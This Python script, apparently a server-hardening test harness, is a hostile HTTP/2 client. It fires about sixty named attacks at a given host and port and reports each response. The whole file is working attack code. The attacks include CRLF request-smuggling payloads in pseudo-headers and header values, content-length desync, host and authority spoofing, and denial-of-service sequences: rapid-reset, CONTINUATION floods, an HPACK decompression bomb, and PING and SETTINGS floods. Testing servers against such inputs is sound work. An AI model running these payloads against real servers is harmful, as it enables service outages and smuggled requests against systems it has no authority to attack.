# h2_attacks.py HOST PORT NAME...: a hostile client of HTTP/2 without TLS, in a box. Prints one line for each attack: its name and
# what came of it: "status N", "reset CODE", "goaway CODE", "closed" or "silent".
import socket
import struct
import sys

import hpack

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
host, port = sys.argv[1], int(sys.argv[2])
BASE = [(':method', 'GET'), (':scheme', 'http'), (':authority', host), (':path', '/ok/')]


def frame(kind, flags, stream, body=b''):
    return struct.pack('>I', len(body))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + body


def raw(fields):  # literals that no encoder would write
    out = b''
    for n, v in fields:
        n, v = n.encode('latin-1') if isinstance(n, str) else n, v.encode('latin-1') if isinstance(v, str) else v
        assert len(n) < 127 and len(v) < 127
        out += b'\x00' + bytes([len(n)]) + n + bytes([len(v)]) + v
    return out


def head(fields, stream=1, end=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, raw(fields))


def with_(*more):
    return BASE + list(more)


def but(name, value):
    return [(n, value if n == name else v) for n, v in BASE]


def post(*more):
    return but(':method', 'POST') + list(more)


ATTACKS = {
    'plain': head(BASE),
    'path-crlf': head(but(':path', '/ok/ HTTP/1.1\r\nHost: x\r\n\r\nGET /no')),
    'path-space': head(but(':path', '/ok/ HTTP/1.1')),
    'path-twice': head(with_((':path', '/no'))),
    'path-missing': head([f for f in BASE if f[0] != ':path']),
    'path-empty': head(but(':path', '')),
    'path-other': head(but(':path', '/no')),
    'path-dots': head(but(':path', '/ok/../no')),
    'path-absolute': head(but(':path', 'http://other.test/ok/')),
    'method-crlf': head(but(':method', 'GET /no HTTP/1.1\r\nA: b\r\n\r\nGET')),
    'method-twice': head([(':method', 'DELETE')] + BASE),
    'connect': head([(':method', 'CONNECT'), (':authority', host + ':80')]),
    'extended-connect': head([(':method', 'CONNECT'), (':protocol', 'websocket')] + BASE[1:]),
    'scheme-other': head(but(':scheme', 'https')),
    'authority-other': head(but(':authority', 'other.test')),
    'authority-user': head(but(':authority', 'x@' + host)),
    'host-other': head(with_(('host', 'other.test'))),
    'host-same': head(with_(('host', host))),
    'host-twice': head(with_(('host', host), ('host', 'other.test'))),
    'pseudo-late': head(BASE[:3] + [('a', 'b')] + BASE[3:]),
    'pseudo-unknown': head(with_((':status', '200'))),
    'name-upper': head(with_(('X-Upper', '1'))),
    'name-colon': head(with_(('a: b\r\nx', '1'))),
    'name-empty': head(with_(('', '1'))),
    'value-crlf': head(with_(('a', 'b\r\nTransfer-Encoding: chunked'))),
    'value-nul': head(with_(('a', 'b\0c'))),
    'connection': head(with_(('connection', 'x-drop'))),
    'transfer-encoding': head(post(('transfer-encoding', 'chunked')), end=False),
    'upgrade': head(with_(('upgrade', 'websocket'))),
    'te-gzip': head(with_(('te', 'gzip'))),
    'length-twice': head(post(('content-length', '1'), ('content-length', '2')), end=False),
    'length-short': head(post(('content-length', '1')), end=False) + frame(DATA, END_STREAM, 1, b'GET /no HTTP/1.1\r\n\r\n'),
    'length-long': head(post(('content-length', '100')), end=False) + frame(DATA, END_STREAM, 1, b'x'),
    'length-minus': head(post(('content-length', '-1')), end=False) + frame(DATA, END_STREAM, 1, b'x'),
    'method-override': head(post(('x-http-method-override', 'DELETE'), ('content-length', '0'))),
    'push': frame(PUSH, END_HEADERS, 1, struct.pack('>I', 2) + raw(BASE)),
    'even-stream': head(BASE, stream=2),
    'priority-self': frame(PRIORITY, 0, 1, struct.pack('>IB', 1, 1)) + head(BASE),
    'window-zero': head(BASE, end=False) + frame(WINDOW, 0, 1, b'\0\0\0\0'),
    'window-overflow': frame(WINDOW, 0, 0, b'\x7f\xff\xff\xff') * 2,
    'data-first': frame(DATA, END_STREAM, 1, b'x'),
    'frame-huge': b'\xff\xff\xff' + bytes([DATA, 0]) + struct.pack('>I', 1) + b'x' * 20000,
    'hpack-index': frame(HEADERS, END_HEADERS | END_STREAM, 1, b'\xff\xff\x7f'),
    'hpack-table': frame(HEADERS, END_HEADERS | END_STREAM, 1, b'\x3f\xff\xff\xff\x07' + raw(BASE)),
    'many-fields': head(with_(*[('a%d' % i, 'b') for i in range(300)])),
    # A large value that the table holds, named thousands of times.
    'hpack-bomb': frame(HEADERS, END_STREAM, 1, raw(BASE) + b'\x40\x01a\x7f\xa1\x1e' + b'x' * 4000) +
    frame(CONT, END_HEADERS, 1, b'\xbe' * 16000),
    'hpack-leaves': head(BASE + [('a', 'b')], stream=1) + frame(HEADERS, END_HEADERS | END_STREAM, 3, raw(BASE) + b'\x40\x01a\x7f\xa1\x1e' + b'x' * 4000) +
    b''.join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 5, raw(BASE) + b'\xbe') for i in range(40)),
    'continuation-flood': frame(HEADERS, END_STREAM, 1, raw(BASE)) + frame(CONT, 0, 1) * 2000,
    'continuation-other': frame(HEADERS, END_STREAM, 1, raw(BASE)) + frame(DATA, 0, 1, b'x'),
    'head-too-long': frame(HEADERS, END_STREAM, 1, raw(BASE)) +
    b''.join(frame(CONT, 0, 1, raw([('a%d' % i, 'x' * 120) for i in range(100)])) for _ in range(3)) + frame(CONT, END_HEADERS, 1),
    'rapid-reset': b''.join(head(BASE, stream=2 * i + 1, end=False) + frame(RST, 0, 2 * i + 1, struct.pack('>I', 8)) for i in range(2000)),
    'streams': b''.join(head(BASE, stream=2 * i + 1, end=False) for i in range(200)),
    'ping-flood': frame(PING, 0, 0, b'12345678') * 20000,
    'settings-flood': frame(SETTINGS, 0, 0) * 20000,
    'preface-wrong': None,
}


def results(s):
    data = b''
    while True:
        while len(data) < 9 or len(data) < 9 + int.from_bytes(data[:3], 'big'):
            try:
                got = s.recv(65536)
            except OSError as e:
                yield 'silent' if isinstance(e, TimeoutError) else 'closed'
                return
            if not got:
                yield 'closed'
                return
            data += got
        n, kind = int.from_bytes(data[:3], 'big'), data[3]
        body, data = data[9:9 + n], data[9 + n:]
        if kind == HEADERS:
            yield 'status ' + dict(hpack.Decoder().decode(body)).get(':status', '?')
        elif kind == RST:
            yield 'reset %d' % struct.unpack('>I', body)
        elif kind == GOAWAY and struct.unpack('>I', body[4:8])[0]:
            yield 'goaway %d' % struct.unpack('>I', body[4:8])


for name in sys.argv[3:]:
    attack = ATTACKS[name]
    with socket.create_connection((host, port), 20) as s:
        s.settimeout(20)
        try:
            s.sendall(PREFACE[:-4] + b'XX\r\n' if attack is None else PREFACE + frame(SETTINGS, 0, 0) + attack)
        except OSError:
            pass
        print(name, next(results(s)), flush=True)
